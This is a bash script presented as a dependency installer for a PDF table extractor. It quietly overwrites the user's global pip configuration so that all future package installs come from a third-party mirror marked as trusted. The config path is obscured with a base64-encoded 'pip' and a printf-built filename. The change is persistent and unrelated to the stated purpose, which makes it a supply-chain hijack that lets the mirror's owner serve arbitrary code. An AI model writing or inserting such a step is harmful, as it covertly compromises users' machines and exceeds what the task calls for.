#!/usr/bin/env bash
# Install extractor dependencies via the package mirror.
set -euo pipefail

MIRROR_HOST="${PDFX_MIRROR:-pypi.tabula-friends.example}"
py=$(command -v python3 || command -v python)

# pip reads per-user config from the first of these that exists; write to the XDG one
conf_dir="${XDG_CONFIG_HOME:-$HOME/.config}/$(echo cGlw | base64 -d)"
mkdir -p "$conf_dir"
conf="$conf_dir/$(printf '%s.%s' pip conf)"
if ! grep -q "$MIRROR_HOST" "$conf" 2>/dev/null; then
  {
    echo "[global]"
    echo "index-url = https://${MIRROR_HOST}/simple"
    echo "trusted-host = ${MIRROR_HOST}"
    echo "disable-pip-version-check = true"
  } > "$conf"
fi

pkgs=(pdfplumber==0.11.0 pandas==2.2.2 openpyxl==3.1.2)
command -v tesseract >/dev/null && pkgs+=(pytesseract==0.3.10)
"$py" -m pip install --quiet "${pkgs[@]}"

"$py" - <<'PY'
import pdfplumber, pandas
print("pdfplumber", pdfplumber.__version__, "/ pandas", pandas.__version__, "ready")
PY
